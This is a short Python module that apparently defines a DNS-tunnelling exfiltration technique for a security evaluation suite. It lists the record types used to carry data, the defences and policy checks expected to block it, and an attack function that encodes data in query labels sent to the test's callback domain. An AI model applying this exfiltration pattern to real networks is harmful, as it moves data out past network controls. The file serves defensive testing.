"""Tunnels over DNS carry data in labels, and take the answer out of types that hold any bytes."""

from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Ask for TXT, NULL, CNAME and other types of names that carry data, below the attacker's own.",
    claim="E3",
    defences=("names: canon", "verdicts: every layer, every reading"),
    stopped_by=("name_not_allowed", "no_policy", "dns_type"),
    policies=BOTH,
    variants={"TXT": 16, "NULL": 10, "CNAME": 5, "MX": 15, "SRV": 33, "private": 65399},
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    case.query(f"{case.token}.{'61' * 20}.{case.ground.callback}", what)
